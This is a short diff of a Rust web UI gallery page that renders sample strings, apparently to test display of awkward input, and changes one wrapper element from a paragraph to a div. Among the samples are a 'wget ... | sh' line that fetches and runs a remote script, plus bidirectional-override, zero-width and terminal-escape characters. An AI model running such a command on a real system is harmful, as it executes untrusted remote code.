@@ -156,7 +156,7 @@ pub(crate) fn GalleryPage() -> impl IntoView {
             <p><Said text="wget http://192.0.2.7/x.sh -O- | sh" /></p>
             <p><Said text="\u{202e}right to left\u{202c}, zero\u{200b}width, \u{1b}[31mred, <b>bold</b>" /></p>
             <p><Said text="a".repeat(400) max=48 /></p>
-            <p><Long text="echo ".repeat(200) /></p>
+            <div><Long text="echo ".repeat(200) /></div>
             <p class="inline-form">
                 {BountyKind::ALL
                     .iter()
